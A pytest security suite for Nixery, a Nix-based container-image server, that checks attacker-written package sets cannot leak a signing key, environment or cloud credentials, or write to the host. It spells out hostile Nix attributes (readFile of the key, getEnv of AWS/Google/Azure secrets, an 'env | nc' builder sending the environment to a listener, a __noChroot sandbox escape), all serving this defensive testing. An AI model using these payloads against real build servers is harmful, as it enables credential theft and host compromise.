"""Package-set code cannot reach the server: hostile sets read a secret, the environment and the
host's files, and nothing of it reaches any stored blob (nixery/nix/confine.py).

Each set is the shared test set plus attributes an attacker would write: evaluation that reads a
file the server can read (mode 0600, the server's own) by readFile, a store copy, fetchurl,
import and a NIX_PATH entry; `getEnv` of every variable of Nixery's configuration and of cloud
credentials; a builder that dumps its environment; a fixed-output builder (the one kind with
network in the sandbox) that sends the variables it may ask Nix for to a listener; and builders
that write into the host's /tmp, one of them asking to be built outside the sandbox. Where Nix
cannot sandbox (a Docker container of this machine's Nix), start-up says so."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import threading
import uuid
from pathlib import Path
from typing import Iterator

import pytest
import requests

from containers import ensure_dockerd
from pkgset import make_package_set
from support import NIX_ENV, chroot_run, free_port, nixpkgs_lib, pull_and_unpack, skopeo_pull
from nixery import preflight
import nixery.nix as nix_module
from nixery.nix import EvaluationFailed, EvaluationLimit, Nix, NixError, SourceArgs, UnavailablePackages, confine
from nixery.nix import listening as nix_listening
from nixery.nix.confine import NIX_DIR
from nixery.config import VARIABLE_NAMES

# Cloud credentials a server may hold in its environment, besides Nixery's own variables.
CLOUD_VARIABLES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
                   "GOOGLE_APPLICATION_CREDENTIALS", "GOOGLE_OAUTH_ACCESS_TOKEN", "AZURE_CLIENT_SECRET")
WATCHED = tuple(sorted(VARIABLE_NAMES | set(CLOUD_VARIABLES)))
COMMIT = "a7" * 20


class Listener:
    """A TCP port on 127.0.0.1 that keeps whatever is sent to it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received = bytearray()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(10)
                while chunk := conn.recv(65536):
                    self.received += chunk


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.sock.close()


def hostile_set(directory: Path, secret: Path, port: int = 0, escape: Path = Path("/nonexistent")) -> Path:
    """The test set plus an attacker's attributes (see the module's docstring)."""
    salt = uuid.uuid4().hex[:12]
    make_package_set(directory, salt=salt)
    names = " ".join(json.dumps(name) for name in WATCHED)
    attributes = f'''
  leak = mk "leak" ''
    mkdir -p $out/etc && echo ${{builtins.toJSON (builtins.readFile "{secret}")}} > $out/etc/leaked
  '';
  leakcopy = mk "leakcopy" ''
    mkdir -p $out/etc && ln -s ${{builtins.path {{ path = /. + "{secret}"; name = "copied"; }}}} $out/etc/copied
  '';
  leakfetch = mk "leakfetch" ''
    mkdir -p $out/etc && cp ${{builtins.fetchurl "file://{secret}"}} $out/etc/fetched
  '';
  leakimport = mk "leakimport" ''
    mkdir -p $out/etc && echo ${{import {secret.parent}/secret.nix}} > $out/etc/imported
  '';
  leaksearch = mk "leaksearch" ''
    mkdir -p $out/etc && echo ${{builtins.readFile <nixery-keys/{secret.name}>}} > $out/etc/searched
  '';
  envFetch = derivation {{
    name = "env-fetch-${{salt}}"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin";
    args = [ "sh" "-c" "env | nc -w 2 127.0.0.1 {port}; echo fetched > $out" ];
    impureEnvVars = [ {names} ];
    outputHashMode = "flat"; outputHashAlgo = "sha256";
    outputHash = builtins.hashString "sha256" "fetched\\n";
  }};
  envdump = mk "envdump" ''
    mkdir -p $out/etc
    echo ${{builtins.toJSON (builtins.toJSON (map (n: {{ name = n; value = builtins.getEnv n; }}) [ {names} ]))}} > $out/etc/eval-env.json
    env > $out/etc/build-env
    cp ${{envFetch}} $out/etc/fetched
  '';
  escape = mk "escape" ''
    echo escaped > {escape} || true
    mkdir -p $out/etc && echo built > $out/etc/escape
  '';
  escapeNoChroot = derivation {{
    name = "escape-nochroot"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin"; inherit salt;
    __noChroot = true;
    args = [ "sh" "-c" "echo escaped > {escape}-nochroot; mkdir -p $out" ];
  }};
'''
    default = directory / "default.nix"
    default.write_text(default.read_text().replace("in rec {", "in rec {" + attributes, 1))
    return directory


@pytest.fixture
def secret(tmp_path) -> bytes:
    """A stand-in key file the server (root here) can read, as it reads its signing key."""
    value = f"stand-in-secret-{uuid.uuid4().hex}".encode()
    path = tmp_path / "keys" / "signing-key.pem"
    path.parent.mkdir()
    path.write_bytes(value)
    (path.parent / "secret.nix").write_bytes(b'"' + value + b'"')
    for file in path.parent.iterdir():
        file.chmod(0o600)
    return value


def secret_path(tmp_path: Path) -> Path:
    return tmp_path / "keys" / "signing-key.pem"


def stored_contents(storage: Path) -> Iterator[tuple[Path, bytes]]:
    """Every blob in storage, and every layer decompressed."""
    for path in sorted(storage.rglob("*")):
        if path.is_file():
            data = path.read_bytes()
            yield path, data
            if data[:2] == b"\x1f\x8b":
                yield path, gzip.decompress(data)


def assert_nowhere_in_storage(server, *needles: bytes) -> None:
    contents = list(stored_contents(server.workdir / "storage"))
    assert len(contents) > 3, "the control image's blobs must be there to search"
    for path, data in contents:
        for needle in needles:
            assert needle not in data, f"{needle!r} in {path}"


def pulled(server, name: str, tmp_path: Path, tag: str = "latest") -> Path:
    """The rootfs of a pull that must succeed."""
    workdir = tmp_path / f"pulled-{name.replace('/', '-')}-{tag}"
    workdir.mkdir()
    return pull_and_unpack(server.host, name, workdir, tag)


def refused(server, name: str, tag: str, tmp_path: Path) -> str:
    """skopeo's stderr for a pull that must fail with a reason it prints."""
    result = skopeo_pull(server.host, name, tmp_path / f"refused-{name.replace('/', '-')}", tag)
    assert result.returncode != 0, f"{name}:{tag} was served"
    return result.stderr


def test_a_path_set_cannot_read_the_servers_files(start_server, tmp_path, secret):
    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path))
    # NIX_PATH naming the secret's directory, as a service user's profile might.
    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), "NIX_PATH": f"nixery-keys={secret_path(tmp_path).parent}"})
    rootfs = pulled(server, "shell/hello", tmp_path)
    assert (rootfs / "bin" / "hello").exists(), "restricted evaluation still serves the set's own packages"

    for name in ("leak", "leakcopy", "leakfetch", "leakimport"):
        stderr = refused(server, name, "latest", tmp_path)
        assert "forbidden in restricted mode" in stderr and "evaluates package sets in restricted mode" in stderr
        answer = requests.get(f"{server.url}/v2/{name}/manifests/latest", timeout=60)
        assert answer.status_code == 403 and answer.json()["errors"][0]["code"] == "DENIED"
    refused(server, "leaksearch", "latest", tmp_path)
    searched = requests.get(f"{server.url}/v2/leaksearch/manifests/latest", timeout=60).json()["errors"][0]
    assert "was not found in the Nix search path" in searched["message"]
    assert_nowhere_in_storage(server, secret)


def test_a_set_fetches_only_the_urls_it_is_allowed(start_server, pkgset, tmp_path):
    """A set of the operator's that pins another with fetchTarball fetches it once its URL's
    prefix is in NIXERY_ALLOWED_URIS, and is refused (403, naming the URL) until then."""
    pinned = tmp_path / "pinned"
    pinned.mkdir()
    with tarfile.open(pinned / "base.tar.gz", "w:gz") as tar:
        tar.add(pkgset, arcname="base")
    pkgs = tmp_path / "pkgs"
    pkgs.mkdir()
    (pkgs / "default.nix").write_text(f'import (builtins.fetchTarball "file://{pinned}/base.tar.gz") {{ }}\n')
    refusing = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
    stderr = refused(refusing, "shell/hello", "latest", tmp_path)
    # Nix checks a file:// URL that no prefix allows as the path it names.
    assert f"access to absolute path '{pinned}/base.tar.gz' is forbidden in restricted mode" in stderr, stderr
    allowing = start_server({"NIXERY_PKGS_PATH": str(pkgs), "NIXERY_ALLOWED_URIS": f"file://{pinned}/"})
    assert (pulled(allowing, "shell/hello", tmp_path) / "bin" / "hello").exists()


NIXPKGS_LIB = nixpkgs_lib()


@pytest.mark.skipif(NIXPKGS_LIB is None, reason="nixpkgs' lib not found: set NIXPKGS_LIB, or provide ../shared/nixpkgs-lib")
def test_nixpkgs_lib_evaluates_in_restricted_mode(start_server, tmp_path):
    """nixpkgs' own library (reading its files, evaluating modules) works on the set's own files."""
    pkgs = make_package_set(tmp_path / "pkgs", salt=uuid.uuid4().hex[:12])
    shutil.copytree(NIXPKGS_LIB, pkgs / "lib")
    default = pkgs / "default.nix"
    default.write_text(default.read_text().replace("in rec {", """in rec {
  nixlib = let nixpkgsLib = import ./lib;
    answer = (nixpkgsLib.evalModules { modules = [ { options.x = nixpkgsLib.mkOption { default = 42; }; } ]; }).config.x;
  in nixpkgsLib.makeOverridable ({ n }: script "nixlib" "echo ${nixpkgsLib.version} ${toString n}") { n = answer; };
""", 1))
    server = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
    rootfs = pulled(server, "nixlib", tmp_path)
    # lib.version: lib/.version, and "pre-git" for a tree without its .version-suffix file.
    version = (NIXPKGS_LIB / ".version").read_text().strip()
    assert chroot_run(rootfs, "/bin/nixlib").split() == [version + "pre-git", "42"]


@pytest.fixture
def channel_dir(tmp_path, secret, listener) -> Path:
    """A directory of tarballs for file://DIR/{rev}.tar.gz: `COMMIT` is the attacker's."""
    directory = tmp_path / "tarballs"
    directory.mkdir()
    pkgs = hostile_set(tmp_path / "attacker", secret_path(tmp_path), port=listener.port)
    with tarfile.open(directory / f"{COMMIT}.tar.gz", "w:gz") as tar:
        tar.add(pkgs, arcname=f"nixpkgs-{COMMIT}")
    return directory


def channel_env(directory: Path, **extra: str) -> dict[str, str]:
    return {"NIXERY_CHANNEL": "nixos-test", "NIXERY_CHANNEL_URL_TEMPLATE": f"file://{directory}/{{rev}}.tar.gz",
            **extra}


def test_a_commit_tag_cannot_read_the_servers_files(start_server, channel_dir, tmp_path, secret):
    server = start_server(channel_env(channel_dir))
    rootfs = pulled(server, "shell/hello", tmp_path, COMMIT)
    assert (rootfs / "bin" / "hello").exists(), "the commit's own tarball may be fetched and read"
    for name in ("leak", "leakcopy"):
        assert "forbidden in restricted mode" in refused(server, name, COMMIT, tmp_path)
    assert_nowhere_in_storage(server, secret)


def test_commit_tags_refused_without_nix(start_server, channel_dir, nix_counter, tmp_path):
    server = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="none", PATH=nix_counter.path()))
    nix_counter.reset()
    stderr = refused(server, "shell/hello", COMMIT, tmp_path)
    assert "names a nixpkgs commit" in stderr and "NIXERY_CHANNEL_COMMITS" in stderr
    answer = requests.get(f"{server.url}/v2/leak/manifests/{COMMIT}", timeout=60)
    assert answer.status_code == 403 and answer.json()["errors"][0]["detail"] == {"tag": COMMIT}
    assert nix_counter.count() == 0

    listed = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="b" * 40 + "," + COMMIT,
                                      PATH=nix_counter.path()))
    # A listed commit is fetched (here there is no such tarball: Nix's download fails, a 500).
    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'b' * 40}", timeout=60).status_code == 500
    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'c' * 40}", timeout=60).status_code == 403
    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{COMMIT}", timeout=120).status_code == 200


def test_a_commit_tag_cannot_read_the_servers_environment(start_server, channel_dir, listener, tmp_path):
    marker = uuid.uuid4().hex
    planted = {name: f"leak-{name}-{marker}" for name in CLOUD_VARIABLES + ("NIXERY_GIT_TOKEN",)}
    server = start_server(channel_env(channel_dir, **planted))
    rootfs = pulled(server, "envdump", tmp_path, COMMIT)
    etc = rootfs / "etc"
    evaluated = {entry["name"]: entry["value"] for entry in json.loads((etc / "eval-env.json").read_text())}
    assert set(evaluated) == set(WATCHED) and set(evaluated.values()) == {""}, \
        {k: v for k, v in evaluated.items() if v}
    assert "PATH=" in (etc / "build-env").read_text() and (etc / "fetched").read_text() == "fetched\n"

    sent = listener.received.decode()
    assert "PATH=" in sent, "the fixed-output builder must have reported its environment"
    fetch_env = dict(line.split("=", 1) for line in sent.splitlines() if "=" in line)
    assert not {name: fetch_env[name] for name in WATCHED if fetch_env.get(name)}
    config_values = [server.env[name].encode() for name in server.env
                     if name in VARIABLE_NAMES and len(server.env[name]) > 8]
    assert config_values, "the server's own configuration values are searched for too"
    for text in (sent.encode(), (etc / "build-env").read_bytes()):
        for value in (marker.encode(), *config_values):
            assert value not in text
    assert_nowhere_in_storage(server, marker.encode())


def test_a_build_cannot_write_to_the_hosts_files(start_server, tmp_path, secret):
    """With `sandbox = false` in Nix's configuration (as a container's nix.conf has it) on a
    machine where Nix can sandbox, builds are sandboxed all the same."""
    unsandboxed = {"NIX_CONFIG": NIX_ENV["NIX_CONFIG"] + "\nsandbox = false"}
    environment = {"PATH": os.environ["PATH"], **unsandboxed}
    if preflight.sandbox_problem(environment):
        pytest.skip(f"Nix cannot sandbox here: {preflight.sandbox_problem(environment)}")
    escape = Path("/tmp") / f"nixery-escape-{uuid.uuid4().hex}"
    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path), escape=escape)
    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), **unsandboxed})
    assert not [e for e in server.log_entries() if "sandbox" in e.get("message", "")], \
        "the preflight reports the sandbox on"
    written = [escape, Path(f"{escape}-nochroot")]
    try:
        rootfs = pulled(server, "escape", tmp_path)
        assert (rootfs / "etc" / "escape").read_text() == "built\n"
        # A derivation asking to be built outside the sandbox is refused instead.
        refused(server, "escapenochroot", "latest", tmp_path)
        answer = requests.get(f"{server.url}/v2/escapenochroot/manifests/latest", timeout=60).json()["errors"][0]
        assert "__noChroot" in answer["message"], answer
        assert not [path for path in written if path.exists()], "builders wrote into the host's /tmp"
    finally:
        for path in written:
            path.unlink(missing_ok=True)


def test_nix_gets_no_variable_of_nixery_nor_credentials():
    service = {name: "x" for name in WATCHED} | {"PATH": "/bin", "HOME": "/var/lib/nixery", "LC_ALL": "C.UTF-8",
                                                  "NIX_REMOTE": "daemon", "https_proxy": "http://proxy:3128",
                                                  "SSH_AUTH_SOCK": "/run/agent", "NIXPKGS_ALLOW_UNFREE": "1"}
    assert set(confine.nix_environment(service)) == {"PATH", "HOME", "LC_ALL", "NIX_REMOTE", "https_proxy"}
    with_cache = set(confine.nix_environment(service, cache_credentials=True))
    assert with_cache - set(confine.nix_environment(service)) == {n for n in WATCHED if n.startswith("AWS_")}


def test_nix_messages_name_no_directory_of_the_server(tmp_path, monkeypatch):
    """A client reads the Nix errors of the code its tag selects: what that code can name of the
    server (its own directory, as given and through a link, and the helper's, by `toString ./.`,
    the search path, and the position of an argument the helper gives it) is not in them."""
    for key, value in NIX_ENV.items():
        monkeypatch.setenv(key, value)
    real = tmp_path / f"real-{uuid.uuid4().hex[:8]}"
    real.mkdir()
    (tmp_path / "set").symlink_to(real)
    (real / "default.nix").write_text('''{ system ? builtins.currentSystem, config ? { } }:
  if config ? allowUnfree then throw "here: ${toString ./.} ${toString ./default.nix} ${
    builtins.toJSON builtins.nixPath} ${builtins.toJSON (builtins.unsafeGetAttrPos "allowUnfree" config)}" else { }
''')
    (tmp_path / "removed").mkdir()
    (tmp_path / "removed" / "default.nix").write_text('{ gone = throw "gone from ${toString ./.}"; }\n')
    nix = Nix(60, tmp_path / "gcroots")
    server_paths = {str(tmp_path), str(real), str(NIX_DIR), str(NIX_DIR.resolve())}
    with pytest.raises(NixError) as failed:
        nix.attribute_names(SourceArgs("path", str(tmp_path / "set"), "the test set"), None)
    with pytest.raises(UnavailablePackages) as refused:
        nix.resolve(["gone"], [], SourceArgs("path", str(tmp_path / "removed"), "the removed set"), None)
    told = [failed.value.reason, str(failed.value), refused.value.problems[0].detail]
    assert "here: . default.nix" in told[0] and "<nixery>/helper.nix" in told[0], told[0]
    assert told[2] == "gone from .", told[2]
    for text in told:
        for path in server_paths:
            assert path not in text, (path, text)


def test_what_a_set_prints_costs_the_server_a_bounded_memory(tmp_path, monkeypatch):
    """A set's code decides how much Nix prints: traces of a large string, as often as it likes, and
    an answer as large as it likes. The server keeps a bounded part of the one (Nix's final error
    line among it) and refuses the other, instead of holding it all."""
    for key, value in NIX_ENV.items():
        monkeypatch.setenv(key, value)
    megabytes = '''
  kb = builtins.concatStringsSep "" (builtins.genList (_: "x") 1024);
  mb = builtins.concatStringsSep "" (builtins.genList (_: kb) 1024);
  big = builtins.concatStringsSep "" (builtins.genList (_: mb) 4);'''
    (tmp_path / "loud").mkdir()
    (tmp_path / "loud" / "default.nix").write_text(f'''{{ system ? builtins.currentSystem }}:
let {megabytes}
in builtins.foldl' (acc: i: builtins.trace big acc) (throw "the end") (builtins.genList (i: i) 8)
''')
    (tmp_path / "wide").mkdir()
    (tmp_path / "wide" / "default.nix").write_text(f'''{{ system ? builtins.currentSystem }}:
let {megabytes}
in {{ ${{big}} = 1; }}
''')
    heard = []
    nix = Nix(60, tmp_path / "gcroots")
    with nix_listening(lambda line: heard.append(len(line))), pytest.raises(NixError) as failed:
        nix.attribute_names(SourceArgs("path", str(tmp_path / "loud"), "the loud set"), None)
    assert "the end" in failed.value.reason and "the end" in failed.value.log
    assert len(failed.value.log) < 2 << 20, "32 MB of traces, kept whole"
    assert heard and max(heard) < 64 << 10, "a trace's line, passed on whole"
    monkeypatch.setattr(nix_module, "EVAL_OUTPUT_MAX", 1 << 20)
    with pytest.raises(EvaluationLimit) as refused:
        nix.attribute_names(SourceArgs("path", str(tmp_path / "wide"), "the wide set"), None)
    assert "printed more than 1M" in refused.value.reason, refused.value.reason


def test_a_set_that_says_what_a_machine_fault_says_is_still_the_sets_failure(tmp_path, monkeypatch):
    """Nix's system errors ("Permission denied", "No space left on device", "unable to download")
    make a failure the machine's (a 5xx, and advice to the operator). A set's code can print the
    same words, in a throw, an abort or a trace before an error of its own: those stay the set's
    failure (EvaluationFailed: a 4xx for a client's pinned revision). A real fault of the machine
    (no daemon where NIX_REMOTE says) stays the machine's."""
    for key, value in NIX_ENV.items():
        monkeypatch.setenv(key, value)
    sets = {
        "throws": 'throw "opening file \'/etc/shadow\': Permission denied"',
        "aborts": 'abort "No space left on device"',
        "traces": 'builtins.trace "x\nerror: unable to download \'http://x\': HTTP error 500" undefinedName',
        "asserts": 'assert builtins.trace "Permission denied" false; { }',
        # Nix's own errors quote what the code names: attributes, files, variables.
        "names": '{ }."No space left on device"',
        "imports": 'import (./. + "/Permission denied")',
        "undefined": "executing SQLite",
    }
    nix = Nix(60, tmp_path / "gcroots")
    for name, body in sets.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "default.nix").write_text(f"{{ system ? builtins.currentSystem }}:\n{body}\n")
        with pytest.raises(NixError) as failed:
            nix.attribute_names(SourceArgs("path", str(tmp_path / name), f"the set that {name}"), None)
        assert isinstance(failed.value, EvaluationFailed), (name, type(failed.value), failed.value.log)
        assert nix_module.advice(failed.value).startswith("the package set does not evaluate"), name
    # The popularity tool's listing (packages.nix, not the helper) is told apart the same way.
    with pytest.raises(EvaluationFailed):
        nix.list_packages(SourceArgs("path", str(tmp_path / "throws"), "the set that throws"), "x86_64-linux")
    # An evaluation killed by a signal (the kernel's out-of-memory killer), after the code printed
    # an error of its own: the machine's.
    fake = tmp_path / "killed-bin"
    fake.mkdir()
    (fake / "nix-instantiate").write_text('#!/bin/sh\necho "error: undefined variable \'x\'" >&2\nkill -9 $$\n')
    (fake / "nix-instantiate").chmod(0o755)
    with monkeypatch.context() as patch:
        patch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
        with pytest.raises(NixError) as failed:
            nix.attribute_names(SourceArgs("path", str(tmp_path / "names"), "the set, killed"), None)
    assert not isinstance(failed.value, EvaluationFailed), failed.value.log
    assert "killed by signal 9" in failed.value.log and "killed" in nix_module.advice(failed.value)
    # An image's evaluation (which writes to the store) where no daemon answers.
    (tmp_path / "copies").mkdir()
    (tmp_path / "copies" / "default.nix").write_text(
        '{ system ? builtins.currentSystem }:\nbuiltins.seq "${./default.nix}" { }\n')
    monkeypatch.setenv("NIX_REMOTE", f"unix://{tmp_path}/no-daemon-here")
    with pytest.raises(NixError) as failed:
        nix.resolve(["hello"], [], SourceArgs("path", str(tmp_path / "copies"), "the set, without its daemon"),
                    "x86_64-linux")
    assert not isinstance(failed.value, EvaluationFailed), failed.value.log
    assert "daemon" in nix_module.advice(failed.value), failed.value.log


# ----------------------------------------------- where Nix cannot sandbox --

def skeleton_image() -> str:
    """A Docker image of an empty merged-/usr root (links and directories only): the test mounts
    this machine's /usr, /nix and Nix's configuration into it, so a container runs this machine's
    Nix and Python under Docker's default confinement, which allows no namespaces."""
    tag = "nixery-test-skeleton:1"
    if subprocess.run(["docker", "image", "inspect", tag], capture_output=True).returncode == 0:
        return tag
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name in ("bin", "lib", "lib64", "sbin"):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, f"usr/{name}"
            tar.addfile(link)
        for name in ("usr", "tmp", "etc", "root", "proc", "sys", "dev", "run", "var/tmp"):
            directory = tarfile.TarInfo(name)
            directory.type, directory.mode = tarfile.DIRTYPE, 0o1777 if "tmp" in name else 0o755
            tar.addfile(directory)
    imported = subprocess.run(["docker", "import", "-", tag], input=buffer.getvalue(), capture_output=True,
                              timeout=120)
    assert imported.returncode == 0, imported.stderr
    return tag


def test_where_nix_cannot_sandbox_start_up_warns(pkgset, tmp_path):
    ensure_dockerd()  # Docker's default confinement: a container that allows no namespaces
    root = Path(__file__).resolve().parent.parent
    # This Python as it is: a venv's (scripts/test runs the checkout's .venv) is its bin/python,
    # whose pyvenv.cfg is found beside it, over the base Python's prefix.
    python = Path(sys.executable)
    prefixes = {Path(sys.prefix), Path(sys.base_prefix), python.resolve().parents[1]}
    mounts = ["/usr:/usr:ro", "/nix:/nix", "/etc/nix:/etc/nix:ro", "/etc/passwd:/etc/passwd:ro",
              "/etc/group:/etc/group:ro", f"{root}:{root}:ro", f"{pkgset}:{pkgset}:ro",
              *(f"{p}:{p}:ro" for p in sorted(prefixes) if not p.is_relative_to("/usr") and not p.is_relative_to(root))]
    env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": str(root), "NIXERY_PKGS_PATH": str(pkgset),
           "STORAGE_PATH": "/tmp/storage", "NIXERY_STATE_DIR": "/tmp/state", "NIX_CONFIG": NIX_ENV["NIX_CONFIG"]}
    command = ["docker", "run", "--rm", *(f"--volume={m}" for m in mounts), *(f"--env={k}={v}" for k, v in env.items()),
               skeleton_image(), str(python), "-m", "nixery", "--check-config"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "Nix cannot sandbox builds here" in result.stderr and "reach the network" in result.stderr, result.stderr
    on_this_machine = subprocess.run([str(python), "-m", "nixery", "--check-config"], capture_output=True, text=True,
                                     timeout=300, cwd=tmp_path, env={**os.environ, **env, "HOME": str(tmp_path),
                                     "PATH": os.environ["PATH"], "STORAGE_PATH": str(tmp_path / "storage"), "PORT": str(free_port()),
                                     "NIXERY_STATE_DIR": str(tmp_path / "state")})
    assert on_this_machine.returncode == 0 and "sandbox" not in on_this_machine.stderr, on_this_machine.stderr
